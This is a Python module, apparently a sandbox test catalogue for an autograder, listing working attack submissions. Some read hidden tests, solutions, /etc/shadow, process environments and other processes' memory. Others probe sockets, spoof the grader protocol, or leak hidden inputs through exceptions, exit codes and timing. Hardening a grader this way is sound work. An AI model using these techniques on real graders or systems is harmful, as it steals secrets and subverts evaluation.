"""Attacks that want to read what is hidden: the suite, the data, the solutions, other submissions, the grader's memory;
and attacks that want to tell what a hidden call was given by way of what the student gets to read."""

from attacks.attack import Attack, Plain, hand_in

KIN = '''
"""The processes that one may look at: the parent and all that descends from it."""

import contextlib
import os


def kin():
    found, parents = {os.getppid()}, {}
    with contextlib.suppress(OSError):
        for pid in filter(str.isdigit, os.listdir("/proc")):
            with contextlib.suppress(OSError), open(f"/proc/{pid}/stat", "rb") as file:
                parents[int(pid)] = int(file.read().rpartition(b")")[2].split()[1])
    for pid in sorted(parents):
        if parents[pid] in found:
            found.add(pid)
    return sorted(found | {os.getpid()})
'''

MEMORY = '''
"""What a process has written into its memory, a piece at a time."""

PIECE, MOST = 1 << 20, 600 << 20


def spans(pid):
    """Addresses and sizes."""
    left = MOST
    try:
        with open(f"/proc/{pid}/maps") as file:
            lines = [line.split() for line in file]
    except OSError:
        return
    for words in lines:
        start, end = (int(edge, 16) for edge in words[0].split("-"))
        if words[1].startswith("rw"):
            for at in range(start, end, PIECE):
                left -= PIECE
                if left > 0:
                    yield at, min(PIECE, end - at)
'''

STRINGS = '''
"""Every text that the collector of garbage can reach, also in what was frozen before the fork."""

import gc
import sys

gc.unfreeze()
OURS = ("grader", "__main__", "_pytest", "pluggy", "zygote")


def strings():
    found = set()
    for thing in gc.get_objects():
        if type(thing) in (dict, list, tuple, set) or str(type(thing).__module__).startswith(OURS):
            for inner in gc.get_referents(thing):
                if type(inner) is str:
                    found.add(inner)
                elif type(inner) is bytes:
                    found.add(inner.decode("latin-1"))
    frame = sys._getframe()
    while frame:
        found.add(frame.f_code.co_filename)
        found.update(word for word in frame.f_code.co_consts if type(word) is str)
        frame = frame.f_back
    return found
'''

ECHO = '''
"""What a hidden call was given, and what its callers know, as words that one would recognise."""

import hashlib
import sys

PREFIX = "NEE" + "DLE-"


def told(given, channel):
    words = [f"{PREFIX}echo_{channel}-{hashlib.sha256(repr(given).encode()).hexdigest()[:16]}"]
    frame = sys._getframe(1)
    while frame:
        known = [*frame.f_globals.values(), *frame.f_locals.values()]
        words += [word for word in known if type(word) is str and word.startswith(PREFIX)]
        frame = frame.f_back
    return " ".join(dict.fromkeys(words))
'''

AROUND = [
    Attack(
        name="looks-around",
        tries="reads every file below the folders around its own, the interpreter's and those of all imported modules",
        plain=Plain.LEARNS,
        files=hand_in(
            before="""
import os
import sys
from spy import look_below

here = os.getcwd()
modules = [getattr(module, "__file__", None) for module in list(sys.modules.values())]
near = [here, os.path.dirname(here), *(os.path.dirname(file) for file in modules if file)]
far = [os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm", os.path.dirname(sys.executable), *sys.path]
for folders, depth in ((near, 2), (far, 1)):
    for folder in dict.fromkeys(folders):
        if "lib" not in folder.split(os.sep):
            look_below(folder, depth)
"""
        ),
    ),
    Attack(
        name="walks-from-the-root",
        tries="walks through the whole file system for files that look like a course's or a grader's",
        plain=Plain.LEARNS,
        files=hand_in(
            before="""
import os
import time
from spy import look, look_into

DULL = {"proc", "sys", "dev", "lib", "lib64", "share", "include", "site-packages", "dist-packages", "node_modules"}
WORTH = (".py", ".pyc", ".csv", ".json", ".db", ".toml", ".txt", ".ipynb", ".md", "HEAD")
until = time.monotonic() + 4
for top in (os.path.abspath(".."), "/"):
    for folder, folders, names in os.walk(top):
        look(folder)
        folders[:] = sorted(set(folders) - DULL)
        for name in names:
            if name.endswith(WORTH):
                look_into(os.path.join(folder, name))
        if time.monotonic() > until:
            break
"""
        ),
    ),
    Attack(
        name="links-out-of-the-scratch",
        tries="goes by symbolic and hard links of its own making to where it may not go by name",
        plain=Plain.LEARNS,
        files=hand_in(
            before="""
import os
from spy import look_below, look_into

ROOTS = ["", "/proc/1/root"]  # of this process, and of the first of all
PLACES = ["..", "../hidden", *(f"{root}/tmp" for root in ROOTS), "/proc/self/root", "/proc/self/cwd/../..", "~/.."]
FILES = ["../hidden/test_plain.py", "/etc/shadow", "/proc/self/environ", "/proc/1/environ", "/dev/fd/3"]
for number, place in enumerate(PLACES):
    os.symlink(os.path.expanduser(place), f"way-{number}")
    look_below(f"way-{number}/.", depth=1)
for number, path in enumerate(FILES):
    for link in (os.link, os.symlink):
        name = f"{link.__name__}-{number}"
        try:
            link(path, name)
        except OSError:
            continue
        look_into(name)
"""
        ),
    ),
    Attack(
        name="paths-it-has-learnt",
        tries="gathers each path that the process has ever named, and opens the files of a course beside all of them",
        plain=Plain.LEARNS,
        files=hand_in(
            before="""
import os
from pathlib import PurePosixPath
from spy import look, look_into
from strings import strings

SELF = "paths-it-has-learnt"
FILES = [
    *("hidden/test_plain.py", "solutions/measure.py", "tests/hidden/arena/test_measure.py", "conftest.py", ".git/HEAD"),
    *("tests/hidden/arena/__pycache__/test_old.cpython-311.pyc", "fixtures/arena/hidden/labels.csv"),
    *("solutions/arena/measure.py", f"class/{SELF} (neighbour)/measure.py", "gradebook.db", "notes.txt"),
    *(f"results/{SELF}.json", f"results/{SELF} (neighbour).json"),
]
paths = {PurePosixPath(text) for text in strings() if text.startswith("/") and len(text) < 500 and "\\0" not in text}
folders = {folder for path in paths for folder in (path, *path.parents) if "site-packages" not in folder.parts}
for folder in folders:
    look(str(folder))
    for name in FILES:
        look_into(os.path.join(folder, name))
""",
            strings=STRINGS,
        ),
    ),
    Attack(
        name="histories-and-caches",
        tries="reads git's objects, compiled files and the caches of tools, in all folders above and beside its own",
        plain=Plain.UNTRIED,
        files=hand_in(
            before="""
import os
import sys
import zlib
from pathlib import Path
from spy import look, look_into

KINDS = [".git/*", ".git/objects/??/*", ".git/logs/*", "__pycache__/*.pyc", ".pytest_cache/v/cache/*", ".coverage*"]
KINDS += [".ruff_cache/*/*", ".mypy_cache/*/*", ".ipynb_checkpoints/*", ".hypothesis/*/*/*", ".cache/*/*"]
paths = [Path.cwd(), Path.home(), Path(sys.executable), *map(Path, sys.path)]
folders = {parent for path in paths for parent in (path, *path.parents) if "site-packages" not in parent.parts}
for folder in folders:
    for kind in KINDS:
        for place in (kind, f"*/{kind}"):
            try:
                found = list(folder.glob(place))
            except OSError:
                continue
            for path in found:
                look_into(path)
                if "objects" in path.parts:
                    try:
                        look(zlib.decompress(path.read_bytes()))
                    except (OSError, zlib.error):
                        pass
"""
        ),
    ),
    Attack(
        name="lies-in-wait",
        tries="watches the shared folders, processes and sockets while others are being graded",
        plain=Plain.LEARNS,
        files=hand_in(
            before="""
import os
import time
from kin import kin
from spy import look_below, look_into


def watch(seconds):
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        for folder in ("..", "/dev/shm", "/dev/mqueue", "/var/tmp", "/run/user"):
            look_below(folder, depth=2)
        for pid in kin():
            for name in ("cmdline", "environ", "comm", "wchan"):
                look_into(f"/proc/{pid}/{name}")
        for name in ("locks", "keys", "net/unix", "net/tcp", "sysvipc/shm"):
            look_into(f"/proc/{name}")
        time.sleep(0.2)
""",
            after="""
def total(values):
    watch(3)
    return 0.0
""",
            kin=KIN,
        ),
    ),
]

INSIDE = [
    Attack(
        name="imports-the-suite",
        tries="imports the hidden tests, solutions and the grader itself by the names that they may have",
        plain=Plain.LEARNS,
        files=hand_in(
            before="""
import importlib
import os
import sys
import grader
from spy import look, look_into

NAMES = [
    *("test_plain", "test_measure", "hidden.test_plain", "tests.hidden.arena.test_measure", "arena.test_measure"),
    *("tests.hidden", "tests.hidden.arena", "solutions", "solutions.arena.measure", "conftest", "hidden_suite"),
    *("grader.gradebook", "grader.results", "grader.host", "grader.course", "grader.suite.plugin", "grader.cli"),
]
folder = os.path.dirname(grader.__file__)
sys.path += ["..", "../..", "../hidden", "../tests", os.path.dirname(folder), folder, os.path.join(folder, "suite")]
for name in NAMES:
    try:
        module = importlib.import_module(name)
        look(repr(vars(module)))
        look_into(module.__file__)
    except BaseException:
        pass
"""
        ),
    ),
    Attack(
        name="frames-up-the-stack",
        tries="climbs from a hidden call to the frames that called it, and reads what they hold and where they stand",
        plain=Plain.LEARNS,
        files=hand_in(
            after="""
import sys
from spy import look, look_into


def total(values):
    frame = sys._getframe()
    while frame:
        for held in [*frame.f_locals.values(), *frame.f_globals.values()]:
            try:
                look(repr(held)[:100_000])
            except Exception:
                pass
        look_into(frame.f_code.co_filename)
        frame = frame.f_back
    return 0.0
"""
        ),
    ),
    Attack(
        name="asks-the-collector",
        tries="reads every text that the garbage collector can reach, in the grader's own objects above all",
        plain=Plain.LEARNS,
        files=hand_in(
            before="""
from spy import look
from strings import strings

look("\\0".join(strings()))
""",
            strings=STRINGS,
        ),
    ),
    Attack(
        name="sources-of-modules",
        tries="reads the sources of what is imported, and their neighbours, by inspect, linecache and the loaders",
        plain=Plain.LEARNS,
        files=hand_in(
            before="""
import inspect
import linecache
import os
import sys
from spy import look

NEIGHBOURS = ("conftest.py", "test_plain.py", "test_measure.py", "__init__.py", "hidden.py", "solution.py")
for module in list(sys.modules.values()):
    file = getattr(module, "__file__", None)
    if not file or "site-packages" in file or os.path.dirname(os.__file__) in file:
        continue
    try:
        look(inspect.getsource(module))
    except Exception:
        pass
    for name in NEIGHBOURS:
        try:
            look(module.__loader__.get_data(os.path.join(os.path.dirname(file), name)))
        except Exception:
            pass
for entry in linecache.cache.values():
    look("".join(entry[2]) if len(entry) > 2 else repr(entry))
"""
        ),
    ),
    Attack(
        name="own-memory",
        tries="searches all of its own memory for what the process that it was forked from has left there",
        plain=Plain.LEARNS,
        files=hand_in(
            before="""
import os
from memory import spans
from spy import PREFIX, look

memory = os.open("/proc/self/mem", os.O_RDONLY)
for start, size in spans("self"):
    try:
        piece = os.pread(memory, size, start)
    except OSError:
        continue
    if PREFIX in piece:
        look(piece)
""",
            memory=MEMORY,
        ),
    ),
    Attack(
        name="the-first-page-of-the-stack",
        tries="reads the words that the kernel put on its stack at the start, which clearing the environment leaves there",
        plain=Plain.LEARNS,
        files=hand_in(
            before="""
import ctypes
import os
from spy import look, look_into

with open("/proc/self/maps") as file:
    (end,) = (int(line.split()[0].split("-")[1], 16) for line in file if line.rstrip().endswith("[stack]"))
look(ctypes.string_at(end - (64 << 10), 64 << 10))
words = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
for number in range(200):
    if not words or not words[number]:
        break
    look(words[number])
look_into("/proc/self/auxv")
"""
        ),
    ),
]

OTHERS = [
    Attack(
        name="environment",
        tries="reads its own environment and that of every process around it",
        plain=Plain.LEARNS,
        files=hand_in(
            before="""
import os
from kin import kin
from spy import look, look_into

look(repr(dict(os.environ)))
for pid in kin():
    look_into(f"/proc/{pid}/environ")
    look_into(f"/proc/{pid}/cmdline")
""",
            kin=KIN,
        ),
    ),
    Attack(
        name="memory-of-others",
        tries="reads the memory of its parent, its siblings and the first process through their files",
        plain=Plain.LEARNS,
        files=hand_in(
            before="""
import os
from kin import kin
from memory import spans
from spy import PREFIX, look

for pid in kin()[:4]:
    try:
        memory = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
    except OSError:
        continue
    for start, size in spans(pid):
        try:
            piece = os.pread(memory, size, start)
        except OSError:
            continue
        if PREFIX in piece:
            look(piece)
""",
            kin=KIN,
            memory=MEMORY,
        ),
    ),
    Attack(
        name="memory-by-system-call",
        tries="reads the memory of its parent and siblings by process_vm_readv, at their addresses and at its own",
        plain=Plain.LEARNS,
        files=hand_in(
            before="""
import ctypes
from kin import kin
from memory import PIECE, spans
from spy import PREFIX, look


class Span(ctypes.Structure):
    _fields_ = [("start", ctypes.c_void_p), ("size", ctypes.c_size_t)]


libc = ctypes.CDLL(None, use_errno=True)
room = ctypes.create_string_buffer(PIECE)
for pid in kin()[:4]:
    for start, size in list(spans(pid)) or list(spans("self"))[:200]:
        near, far = Span(ctypes.addressof(room), size), Span(start, size)
        got = libc.process_vm_readv(pid, ctypes.byref(near), 1, ctypes.byref(far), 1, 0)
        if got > 0 and PREFIX in (piece := room.raw[:got]):
            look(piece)
""",
            kin=KIN,
            memory=MEMORY,
        ),
    ),
    Attack(
        name="folders-of-processes",
        tries="goes through the folders in /proc of the processes around it: root, cwd, maps, mount points",
        plain=Plain.LEARNS,
        files=hand_in(
            before="""
import os
from kin import kin
from spy import look_below, look_into

for pid in [*kin(), "self", "thread-self"]:
    for place in ("cwd", "cwd/..", "root/tmp", "root/old", "map_files"):
        look_below(f"/proc/{pid}/{place}", depth=2)
    for name in ("maps", "mountinfo", "mountstats", "cgroup", "status", "auxv", "stack", "syscall", "numa_maps"):
        look_into(f"/proc/{pid}/{name}")
DULL = {"bin", "sbin", "lib", "lib64", "libexec", "share", "include", "proc", "sys"}
with open("/proc/self/mountinfo") as file:
    mounts = [line.split() for line in file]
for inside, place, kind in {(words[3], words[4], words[words.index("-") + 1]) for words in mounts}:
    for folder in (inside, os.path.dirname(inside), place if kind == "tmpfs" else os.path.dirname(place)):
        if not DULL.intersection(folder.split("/")) and folder != "/":
            look_below(folder, depth=1)
""",
            kin=KIN,
        ),
    ),
    Attack(
        name="open-descriptors",
        tries="reads every descriptor that it or a process around it holds, and opens their files anew",
        plain=Plain.UNTRIED,
        files=hand_in(
            before="""
import os
from kin import kin
from spy import look, look_below, look_into

for descriptor in range(512):
    try:
        look(os.pread(descriptor, 1 << 20, 0))
    except OSError:
        pass
for pid in kin():
    try:
        names = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        names = [str(number) for number in range(64)]
    for name in names:
        path = f"/proc/{pid}/fd/{name}"
        look_into(path)
        look_into(f"/proc/{pid}/fdinfo/{name}")
        if os.path.isdir(path):
            look_below(path, depth=2)
for path in ("/dev/stdin", "/dev/stdout", "/dev/stderr", "/dev/fd/3", "/dev/tty", "/dev/console"):
    look_into(path)
""",
            kin=KIN,
        ),
    ),
    Attack(
        name="descriptors-by-message",
        tries="has descriptors sent to it over its sockets, and asks these who is at the other end",
        plain=Plain.UNTRIED,
        files=hand_in(
            before="""
import fcntl
import os
import socket
from spy import look, look_below, look_into

SO_PASSCRED, SO_PASSSEC, SO_PEERCRED, SO_PEERSEC, SO_PEERGROUPS, SO_PEERPIDFD = 16, 34, 17, 31, 59, 77
SIOCUNIXFILE, SIOCGSKNS = 0x89E0, 0x894C
for descriptor in range(3, 64):
    try:
        connection = socket.socket(fileno=os.dup(descriptor))
    except OSError:
        continue
    for option in (SO_PASSCRED, SO_PASSSEC, 76, 83):
        try:
            connection.setsockopt(socket.SOL_SOCKET, option, 1)
        except OSError:
            pass
    for option in (SO_PEERCRED, SO_PEERSEC, SO_PEERGROUPS, SO_PEERPIDFD):
        try:
            got = connection.getsockopt(socket.SOL_SOCKET, option, 256)
        except OSError:
            continue
        look(got)
        if option in (SO_PEERCRED, SO_PEERPIDFD):
            number = int.from_bytes(got[:4], "little")
            look_into(f"/proc/{number}/environ")
            look_into(f"/proc/self/fdinfo/{number}")
    for request in (SIOCUNIXFILE, SIOCGSKNS):
        try:
            given = fcntl.ioctl(connection, request, 0)
        except OSError:
            continue
        look_below(f"/proc/self/fd/{given}", depth=2)
    connection.settimeout(0.2)
    try:
        data, ancillary, *_ = connection.recvmsg(1 << 16, 1 << 12, socket.MSG_PEEK)
    except OSError:
        continue
    look(data + b"".join(content for *_, content in ancillary))
"""
        ),
    ),
    Attack(
        name="asks-the-connection",
        tries="speaks the grader's protocol towards the grader: has it read files, build recipes and look up its handles",
        plain=Plain.UNTRIED,
        files=hand_in(
            after="""
import os
import socket
import stat
import sys
import msgspec
from spy import look


def total(values):
    from grader.sandbox.frames import send_frame

    number, frame = 1, sys._getframe()
    while frame:
        number = frame.f_locals["number"] if type(frame.f_locals.get("number")) is int else number
        frame = frame.f_back
    (descriptor,) = [n for n in range(3, 64) if is_socket(n)][:1]
    connection = socket.socket(fileno=os.dup(descriptor))
    recipe = {"q": ["os:getenv", ["ARENA_SECRET"], {"d": []}]}
    for request in (
        [number + 1, "get", ["os", ["environ"]]],
        [number + 1, "call", ["builtins", ["open"], ["/proc/self/environ"], {"d": []}]],
        [number, "ok", recipe],
        [number, "ok", {"r": [1, "Kept"]}],
        [number, "ok", {"o": ["opaque", recipe]}],
    ):
        try:
            send_frame(connection, msgspec.msgpack.encode(request), [])
            connection.settimeout(0.3)
            look(connection.recv(1 << 16))
        except OSError:
            pass
    return 0.0


def is_socket(number):
    try:
        return stat.S_ISSOCK(os.fstat(number).st_mode)
    except OSError:
        return False
"""
        ),
    ),
]

MACHINE = [
    Attack(
        name="shared-memory",
        tries="attaches every System V and POSIX segment that there is, and takes messages from queues",
        plain=Plain.UNTRIED,
        files=hand_in(
            before="""
import ctypes
from spy import look, look_below, look_into

SHM_STAT, SHM_STAT_ANY, SHM_RDONLY, IPC_NOWAIT = 13, 15, 0o10000, 0o4000
libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
facts, message = ctypes.create_string_buffer(512), ctypes.create_string_buffer(1 << 13)
segments = {libc.shmctl(index, how, facts) for index in range(64) for how in (SHM_STAT, SHM_STAT_ANY)}
for segment in {*segments, *range(256), *range(0, 1 << 20, 1 << 15)} - {-1}:
    address = libc.shmat(segment, None, SHM_RDONLY)
    if address not in (None, ctypes.c_void_p(-1).value):
        look(ctypes.string_at(address, 4096))
        libc.shmdt(ctypes.c_void_p(address))
for queue in range(64):
    if libc.msgrcv(queue, message, 1 << 12, ctypes.c_long(0), IPC_NOWAIT) > 0:
        look(message.raw)
for folder in ("/dev/shm", "/dev/mqueue", "/dev/hugepages"):
    look_below(folder)
for name in ("shm", "msg", "sem"):
    look_into(f"/proc/sysvipc/{name}")
"""
        ),
    ),
    Attack(
        name="abstract-sockets",
        tries="calls the arena's sockets that have names but no files, by whichever way a socket is to be had",
        plain=Plain.LEARNS,
        files=hand_in(
            before="""
import os
import socket
from spy import look

names = {os.environ.get("ARENA_SOCKET", "arena-decoy")}
for path in ("/proc/net/unix", "/proc/self/net/unix"):
    try:
        with open(path) as file:
            names |= {line.split("@")[1].strip() for line in file if "@arena" in line}
    except OSError:
        pass
KINDS = (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, socket.SOCK_DGRAM)


def ways():
    for kind in KINDS:
        yield lambda kind=kind: socket.socket(socket.AF_UNIX, kind)
        yield lambda kind=kind: socket.socketpair(socket.AF_UNIX, kind)[0]


for name in names:
    for way in ways():
        try:
            caller = way()
            caller.settimeout(0.2)
            caller.connect(f"\\0{name}")
            caller.send(b"?")
            look(caller.recv(4096))
        except OSError:
            pass
"""
        ),
    ),
    Attack(
        name="loopback-ports",
        tries="calls every port on which this machine's programs listen for each other",
        plain=Plain.LEARNS,
        learns_at_fallback=frozenset({"loopback"}),
        files=hand_in(
            before="""
import os
import socket
from spy import look

LISTENS = "0A"


def ports():
    if "ARENA_PORT" in os.environ:
        return [int(os.environ["ARENA_PORT"])]
    found = []
    for path in ("/proc/net/tcp", "/proc/self/net/tcp"):
        try:
            with open(path) as file:
                lines = [line.split() for line in list(file)[1:]]
        except OSError:
            continue
        found += [int(words[1].partition(":")[2], 16) for words in lines if words[3] == LISTENS]
    return [port for port in found if 32768 <= port < 61000] or range(32768, 61000, 7)


for port in ports():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as caller:
        caller.settimeout(0.2)
        try:
            caller.connect(("127.0.0.1", port))
            look(caller.recv(4096))
        except OSError:
            pass
"""
        ),
    ),
    Attack(
        name="core-dumps",
        tries="has a copy of its process crash, and looks for that dump and for those of others",
        plain=Plain.UNTRIED,
        files=hand_in(
            before="""
import os
import resource
from spy import look_below, look_into

_, most = resource.getrlimit(resource.RLIMIT_CORE)
resource.setrlimit(resource.RLIMIT_CORE, (most, most))
child = os.fork()
if child == 0:
    os.abort()
os.waitpid(child, 0)
with open("/proc/sys/kernel/core_pattern") as file:
    pattern = file.read().strip().lstrip("|").split()[0]
for folder in (".", os.path.dirname(pattern) or ".", "/var/crash", "/var/lib/systemd/coredump", "/cores", "/tmp"):
    look_below(folder, depth=1)
look_into("/proc/self/coredump_filter")
"""
        ),
    ),
    Attack(
        name="devices-and-the-kernel",
        tries="reads disks, memory devices, the kernel's log and its file systems",
        plain=Plain.UNTRIED,
        files=hand_in(
            before="""
import os
from spy import look_below, look_into

for name in ("mem", "kmem", "port", "kmsg", "vda", "sda", "nvme0n1", "dm-0", "vcs", "vcsa", "ptmx", "fuse", "console"):
    look_into(f"/dev/{name}")
for name in ("kcore", "kmsg", "keys", "key-users", "locks", "cmdline", "config.gz", "vmallocinfo", "sched_debug"):
    look_into(f"/proc/{name}")
for folder in ("/sys/kernel", "/sys/fs/cgroup", "/sys/module", "/sys/firmware", "/sys/class", "/dev", "/run", "/boot"):
    look_below(folder, depth=2)
"""
        ),
    ),
]


def telling(channel: str, tries: str, after: str, plain: Plain = Plain.LEARNS, at: str = "measure") -> Attack:
    """An attack that tells by some channel what a hidden call was given."""
    return Attack(
        f"tells-by-{channel}", tries, hand_in(before="from echo import told", after=after, at=at, echo=ECHO), plain
    )


CHANNELS = [
    telling(
        "exception",
        "raises exceptions whose texts, notes and causes repeat what was given",
        """
def total(values):
    raise ValueError(told(values, "text"))


def spread(values):
    error = ValueError(told(values, "argument"), {"given": told(values, "inner")})
    error.add_note(told(values, "note"))
    raise error from KeyError(told(values, "cause"))


def rmse(actual, predicted):
    raise SyntaxError(told(actual, "syntax"), (told(actual, "file"), 1, 1, told(actual, "line")))


def standardize(x):
    assert x is None, told(x, "assertion")


def clean(frame):
    raise NotImplementedError(told(frame, "unwritten"))


def describe(values):
    raise SystemExit(told(values, "exit"))


def refuse(word):
    raise ValueError(told(word, "refusal"))
""",
    ),
    telling(
        "class-name",
        "raises exceptions whose classes, modules, functions and files are named after what was given",
        """
def named(values, *bases):
    return type(told(values, "class"), bases, {"__module__": told(values, "module")})


def total(values):
    raise named(values, Exception)


def spread(values):
    raise named(values, ValueError)()


def rmse(actual, predicted):
    kind = named(actual, BaseException)
    kind.__qualname__ = told(actual, "qualname")
    raise kind


def standardize(x):
    name = told(x, "function")
    exec(compile("def raises(): raise ValueError(name)", __file__, "exec"), scope := {"name": name})
    raises = scope["raises"]
    raises.__code__ = raises.__code__.replace(co_name=name, co_filename=__file__)
    raises()


def clean(frame):
    return named(frame, object)()


def describe(values):
    raise type("ValueError", (Exception,), {"__str__": lambda self: told(values, "str")})()
""",
    ),
    telling(
        "choice",
        "raises those of Python's own exceptions whose places in the alphabet spell what was given",
        """
import builtins
import hashlib

KINDS = sorted(
    name
    for name, kind in vars(builtins).items()
    if isinstance(kind, type) and issubclass(kind, Exception) and not issubclass(kind, (UnicodeError, NotImplementedError))
)


def spells(given):
    number = hashlib.sha256(repr(given).encode()).digest()[0]
    raise getattr(builtins, KINDS[number % len(KINDS)])


def total(values):
    spells(values)


def spread(values):
    spells(values)


def rmse(actual, predicted):
    spells(actual)


def standardize(x):
    spells(x)


def clean(frame):
    spells(frame)


def describe(values):
    spells(values)


def refuse(word):
    spells(word)
""",
        Plain.UNTRIED,
    ),
    telling(
        "printing",
        "prints, warns, logs and writes past Python what was given",
        """
import logging
import os
import sys
import warnings


def total(values):
    print(told(values, "stdout"), flush=True)
    print(told(values, "stderr"), file=sys.stderr, flush=True)
    warnings.warn(told(values, "warning"))
    logging.error(told(values, "log"))
    os.write(1, told(values, "descriptor").encode())
    sys.excepthook(ValueError, ValueError(told(values, "hook")), None)
    sys.__stdout__.write("\\r\\n::set-output name=message::" + told(values, "command"))
    return 0.0
""",
    ),
    telling(
        "figure",
        "writes what was given into titles, labels, legends and the lines of a figure",
        """
def plot(values):
    figure, axes = plt.subplots()
    axes.plot(values, label=told(values, "label"))
    axes.set_title(told(values, "title"))
    axes.set_xlabel(told(values, "axis"))
    axes.text(0, 0, told(values, "text"))
    axes.legend(title=told(values, "legend"))
    figure.suptitle(told(values, "figure"))
    return figure


def read(folder):
    return told(folder, "returned")
""",
        at="draw",
    ),
    telling(
        "value",
        "returns what was given as text, keys, columns, and objects with such names, where numbers are expected",
        """
def total(values):
    return told(values, "text")


def spread(values):
    return {told(values, "key"): told(values, "value")}


def rmse(actual, predicted):
    return type(told(actual, "type"), (), {"__repr__": lambda self: told(actual, "repr")})()


def standardize(x):
    return np.array([told(x, "array")] * 3, dtype=object)


def clean(frame):
    return frame.rename(columns={"a": told(frame, "column")}).astype(object).fillna(told(frame, "cell"))


def describe(values):
    return {"n": told(values, "count"), "mean": told(values, "mean"), told(values, "extra"): 1}


def refuse(word):
    return told(word, "word")
""",
    ),
    telling(
        "exit-code",
        "ends its process with exit codes and signals that spell what was given",
        """
import hashlib
import os
import signal


def byte(given):
    return hashlib.sha256(repr(given).encode()).digest()[0]


def total(values):
    os._exit(byte(values))


def spread(values):
    os.kill(os.getpid(), 1 + byte(values) % 15)


def rmse(actual, predicted):
    print(told(actual, "last_words"), flush=True)
    os.kill(os.getpid(), signal.SIGKILL)
""",
        Plain.ENDS,
    ),
    telling(
        "time",
        "takes the longer, the larger a digit of what was given is, and runs out of time or not",
        """
import hashlib
import time


def digit(given):
    return hashlib.sha256(repr(given).encode()).digest()[0] % 8


def total(values):
    time.sleep(digit(values) / 8)
    return told(values, "slow")


def spread(values):
    until = time.process_time() + digit(values) / 8
    while time.process_time() < until:
        pass
    raise TimeoutError(told(values, "late"))
""",
    ),
    telling(
        "rank",
        "raises, prints and returns on both ranks of a process group what was given",
        """
import sys


def mean_over_ranks(accelerator, values):
    print(told(values, "rank"), file=sys.stderr, flush=True)
    if accelerator.process_index:
        raise ValueError(told(values, "second"))
    return {told(values, "first"): told(values, "value")}


def make_model(n_features, n_hidden):
    model = nn.Sequential()
    model.register_buffer(told(n_hidden, "buffer").replace(".", ""), torch.zeros(1))
    return model


def train(model, loader, accelerator, epochs, lr):
    model.state_dict = lambda: {told(lr, "state"): told(lr, "weights")}
    raise RuntimeError(told(lr, "training"))
""",
        at="learn",
    ),
]

ATTACKS = [*AROUND, *INSIDE, *OTHERS, *MACHINE, *CHANNELS]
